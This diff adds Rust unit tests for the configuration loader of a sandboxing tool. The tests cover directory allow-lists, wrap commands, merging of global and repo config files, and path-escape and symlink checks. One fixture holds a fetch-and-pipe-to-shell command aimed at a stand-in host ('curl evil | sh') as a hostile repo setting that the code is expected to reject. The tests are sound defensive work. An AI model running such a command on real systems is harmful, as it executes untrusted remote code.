+                .home_sandbox_dirs
+                .map(|entries| entries.into_iter().map(|e| e.value).collect::<Vec<_>>());
+            assert_eq!(
+                values,
+                expected.map(|v| v.into_iter().map(String::from).collect())
+            );
+        }
+
+        #[rstest]
+        #[case("home_sandbox_dirs = [\"/etc\"]")]
+        #[case("home_sandbox_dirs = [\"../other\"]")]
+        #[case("home_sandbox_dirs = [\"\"]")]
+        fn rejects_home_sandbox_dirs_outside_home(#[case] content: &str) {
+            let err = Config::parse(content, Path::new("/cfg.toml")).unwrap_err();
+            assert!(
+                err.to_string().contains("relative to the home directory"),
+                "{err}"
+            );
+        }
+
+        #[rstest]
+        #[case("forbid_full_access = true", true)]
+        #[case("forbid_full_access = false", false)]
+        #[case("", false)]
+        fn parses_forbid_full_access(#[case] content: &str, #[case] expected: bool) {
+            let config = Config::parse(content, Path::new("/cfg.toml")).unwrap();
+            assert_eq!(config.forbid_full_access, expected);
+        }
+
+        #[test]
+        fn rejects_non_boolean_forbid_full_access() {
+            let err =
+                Config::parse("forbid_full_access = \"yes\"", Path::new("/cfg.toml")).unwrap_err();
+            assert!(err.to_string().contains("must be a boolean"));
+        }
+
+        #[test]
+        fn forbid_full_access_from_any_file_wins() {
+            let mut global = Config::parse("forbid_full_access = true", Path::new("/g")).unwrap();
+            let repo = Config::parse("forbid_full_access = false", Path::new("/r")).unwrap();
+
+            global.merge(repo);
+
+            assert!(global.forbid_full_access);
+        }
+
+        #[test]
+        fn repo_notify_template_overrides_global() {
+            let mut global = Config::parse("notify_template = \"g\"", Path::new("/g")).unwrap();
+            let repo = Config::parse("notify_template = \"r\"", Path::new("/r")).unwrap();
+            let empty = Config::parse("", Path::new("/e")).unwrap();
+
+            global.merge(repo);
+            global.merge(empty);
+
+            assert_eq!(global.notify_template.unwrap().value, "r");
+        }
+
+        #[test]
+        fn repo_write_marker_overrides_global() {
+            let mut global = Config::parse("write_marker = true", Path::new("/g")).unwrap();
+            let repo = Config::parse("write_marker = false", Path::new("/r")).unwrap();
+            let empty = Config::parse("", Path::new("/e")).unwrap();
+
+            global.merge(repo);
+            global.merge(empty);
+
+            assert_eq!(global.write_marker, Some(false));
+        }
+
+        #[test]
+        fn repo_model_and_sandbox_settings_override_global() {
+            let mut global = Config::parse(
+                "model = \"g\"\nnetwork_access = false\ntmux = false",
+                Path::new("/g"),
+            )
+            .unwrap();
+            let repo = Config::parse("model = \"r\"\ntmux = true", Path::new("/r")).unwrap();
+
+            global.merge(repo);
+
+            assert_eq!(global.model(), "r");
+            assert_eq!(global.network_access, Some(false));
+            assert_eq!(global.tmux, Some(true));
+            assert_eq!(Config::default().model(), DEFAULT_MODEL);
+        }
+
+        #[test]
+        fn rejects_non_string_notify_template() {
+            let err = Config::parse("notify_template = 3", Path::new("/cfg.toml")).unwrap_err();
+            assert!(err.to_string().contains("must be a string"));
+        }
+
+        #[rstest]
+        #[case("wrap_command = [\"docker\", \"exec\", \"-it\", \"dev box\"]")]
+        #[case("wrap_command = \"docker exec -it 'dev box'\"")]
+        fn parses_wrap_command(#[case] content: &str) {
+            let config = Config::parse(content, Path::new("/cfg.toml")).unwrap();
+
+            assert_eq!(
+                config.wrap_command.unwrap(),
+                ["docker", "exec", "-it", "dev box"]
+            );
+        }
+
+        #[rstest]
+        #[case("wrap_command = []", "must not be empty")]
+        #[case("wrap_command = \"  \"", "must not be empty")]
+        #[case("wrap_command = \"docker 'exec\"", "unterminated single quote")]
+        #[case("wrap_command = [1]", "must be a string or an array of strings")]
+        #[case("wrap_command = true", "must be a string or an array of strings")]
+        fn rejects_invalid_wrap_command(#[case] content: &str, #[case] expected: &str) {
+            let err = Config::parse(content, Path::new("/cfg.toml")).unwrap_err();
+
+            assert!(format!("{err:#}").contains(expected), "{err:#}");
+        }
+
+        #[rstest]
+        fn a_repo_file_cannot_set_home_sandbox_dirs(#[from(temp_dir)] repo: PathBuf) {
+            let path = repo.join(REPO_CONFIG_FILE);
+            fs::write(&path, "home_sandbox_dirs = [\".ssh\", \".gnupg\"]").unwrap();
+            let mut global = Config::parse("home_sandbox_dirs = []", Path::new("/g")).unwrap();
+
+            global.merge(Config::load_repo_file(&path).unwrap().unwrap());
+
+            assert_eq!(global.home_sandbox_dirs, Some(vec![]));
+        }
+
+        #[rstest]
+        fn a_repo_file_cannot_set_wrap_command(#[from(temp_dir)] repo: PathBuf) {
+            let path = repo.join(REPO_CONFIG_FILE);
+            fs::write(
+                &path,
+                "wrap_command = \"sh -c 'curl evil | sh'\"\nmodel = \"r\"",
+            )
+            .unwrap();
+            let mut global = Config::parse("wrap_command = \"g\"", Path::new("/g")).unwrap();
+
+            global.merge(Config::load_repo_file(&path).unwrap().unwrap());
+
+            assert_eq!(global.wrap_command, Some(vec!["g".to_owned()]));
+            assert_eq!(global.model(), "r");
+        }
+
+        #[test]
+        fn every_listed_key_is_parsed() {
+            for (key, kind) in KEYS {
+                let value = match kind {
+                    ValueKind::Boolean => "true",
+                    ValueKind::Integer => "3",
+                    ValueKind::String | ValueKind::Command => "\"x\"",
+                    ValueKind::StringList if key == "home_sandbox_dirs" => "[\"x\"]",
+                    ValueKind::StringList => "[\"/x\"]",
+                };
+                let config = Config::parse(&format!("{key} = {value}"), Path::new("/cfg.toml"))
+                    .unwrap_or_else(|err| panic!("{key}: {err:#}"));
+
+                assert_ne!(
+                    format!("{config:?}"),
+                    format!("{:?}", Config::default()),
+                    "{key}"
+                );
+            }
+        }
+
+        #[test]
+        fn rejects_invalid_toml() {
+            assert!(Config::parse("extra_add_dirs = [", Path::new("/cfg.toml")).is_err());
+        }
+
+        #[test]
+        fn ignores_unknown_keys() {
+            let config = Config::parse("future_key = true", Path::new("/cfg.toml")).unwrap();
+            assert!(config.extra_add_dirs.is_empty());
+        }
+
+        #[rstest]
+        fn loads_repo_config_file(#[from(temp_dir)] repo: PathBuf) {
+            fs::write(
+                repo.join(REPO_CONFIG_FILE),
+                "extra_add_dirs = [\"${repo}/protos\"]",
+            )
+            .unwrap();
+
+            let file = Config::load_file(&repo.join(REPO_CONFIG_FILE))
+                .unwrap()
+                .expect("config file should be found");
+
+            assert_eq!(file.extra_add_dirs[0].value, "${repo}/protos");
+        }
+
+        #[rstest]
+        fn missing_config_file_is_ignored(#[from(temp_dir)] dir: PathBuf) {
+            assert!(
+                Config::load_file(&dir.join("absent.toml"))
+                    .unwrap()
+                    .is_none()
+            );
+        }
+
+        #[test]
+        fn merge_concatenates_lists_in_order() {
+            let mut global = Config::parse("extra_add_dirs = [\"/a\"]", Path::new("/g")).unwrap();
+            let repo = Config::parse("extra_add_dirs = [\"/b\"]", Path::new("/r")).unwrap();
+
+            global.merge(repo);
+
+            let values: Vec<_> = global.extra_add_dirs.iter().map(|e| &e.value).collect();
+            assert_eq!(values, ["/a", "/b"]);
+        }
+    }
+
+    mod allowed_repos {
+        use super::*;
+
+        fn config(patterns: &str) -> Config {
+            let content = format!("allowed_repos = [{patterns}]");
+            Config::parse(&content, Path::new("/etc/amg/config.toml")).unwrap()
+        }
+
+        #[rstest]
+        #[case("\"/srv/repos/*\"", "/srv/repos/app", true)]
+        #[case("\"/srv/repos/*\"", "/srv/repos/app/crates/core", true)]
+        #[case("\"/srv/repos/*\"", "/srv/repos", false)]
+        #[case("\"/srv/repos/*\"", "/srv/other/app", false)]
+        #[case("\"/srv/repos/*\"", "/srv/repos-old/app", false)]
+        #[case("\"/srv/*/app\"", "/srv/team/app", true)]
+        #[case("\"/srv/*/app\"", "/srv/team/sub/app", false)]
+        #[case("\"/a\", \"/b/**\"", "/b/deep/er", true)]
+        #[case("", "/anything", false)]
+        fn matches_whole_path_components(
+            #[case] patterns: &str,
+            #[case] dir: &str,
+            #[case] allowed: bool,
+        ) {
+            assert_eq!(
+                config(patterns).allowed_repos[0].allows(Path::new(dir)),
+                allowed
+            );
+        }
+
+        #[rstest]
+        #[case("allowed_repos = [\"srv/*\"]", "absolute")]
+        #[case("allowed_repos = [\"/srv/[\"]", "invalid pattern")]
+        #[case("allowed_repos = \"/srv/*\"", "array of strings")]
+        fn rejects_bad_patterns(#[case] content: &str, #[case] expected: &str) {
+            let err = Config::parse(content, Path::new("/cfg.toml")).unwrap_err();
+
+            assert!(format!("{err:#}").contains(expected), "{err:#}");
+        }
+
+        #[test]
+        fn no_list_allows_everything() {
+            assert!(
+                Config::default()
+                    .check_allowed(Path::new("/etc"), "repo")
+                    .is_ok()
+            );
+        }
+
+        #[test]
+        fn refusal_names_the_enforcing_file() {
+            let err = config("\"/srv/repos/*\"")
+                .check_allowed(Path::new("/tmp/elsewhere/x"), "repo")
+                .unwrap_err();
+
+            let message = err.to_string();
+            assert!(message.starts_with("repo /tmp/elsewhere/x"), "{message}");
+            assert!(message.contains("/etc/amg/config.toml"), "{message}");
+        }
+
+        #[test]
+        fn parent_components_cannot_escape() {
+            let config = config("\"/srv/repos/*\"");
+
+            let err = config
+                .check_allowed(Path::new("/srv/repos/app/../../../etc"), "repo")
+                .unwrap_err();
+
+            assert!(err.to_string().starts_with("repo /etc "), "{err}");
+        }
+
+        #[test]
+        fn the_repo_file_cannot_widen_the_global_list() {
+            let mut merged = config("\"/srv/repos/*\"");
+            merged.merge(Config::parse("allowed_repos = [\"/**\"]", Path::new("/r")).unwrap());
+
+            assert!(
+                merged
+                    .check_allowed(Path::new("/srv/repos/app"), "repo")
+                    .is_ok()
+            );
+            assert!(merged.check_allowed(Path::new("/opt/app"), "repo").is_err());
+        }
+
+        #[cfg(unix)]
+        #[rstest]
+        fn resolves_symlinks_before_matching(#[from(temp_dir)] dir: PathBuf) {
+            let dir = fs::canonicalize(dir).unwrap();
+            let allowed = dir.join("allowed");
+            let outside = dir.join("outside");
+            fs::create_dir_all(&allowed).unwrap();
+            fs::create_dir_all(&outside).unwrap();
+            std::os::unix::fs::symlink(&outside, allowed.join("link")).unwrap();
+            let config = config(&format!("{:?}", format!("{}/*", allowed.display())));
+
+            assert!(config.check_allowed(&allowed.join("link"), "repo").is_err());
+            fs::create_dir(allowed.join("real")).unwrap();
+            assert!(config.check_allowed(&allowed.join("real"), "repo").is_ok());
+        }
+    }
+}